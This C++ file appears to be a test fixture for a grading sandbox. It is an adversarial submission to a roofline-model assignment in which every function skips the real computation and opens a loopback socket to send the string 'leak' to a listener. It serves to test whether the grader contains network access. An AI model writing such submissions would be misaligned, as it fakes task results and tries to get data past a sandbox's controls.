// Adversarial submission "network": sends data to a listener on the grading machine
#include "a01_roofline/roofline.hpp"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <string>
namespace a01_roofline {
namespace {
double attack() {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<unsigned short>(std::stoi("@PORT@")));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (fd >= 0 && ::connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0)
    (void)!::write(fd, "leak", 4);
  if (fd >= 0) ::close(fd);
  return 0;
}
}  // namespace

double arithmetic_intensity(double, double) { return attack(); }
double ridge_point(double, double) { return attack(); }
bool is_memory_bound(double, double, double) { return attack() > 0; }
double attainable_flops_per_s(double, double, double) { return attack(); }
double matmul_arithmetic_intensity(double, double, double, double) { return attack(); }

}  // namespace a01_roofline
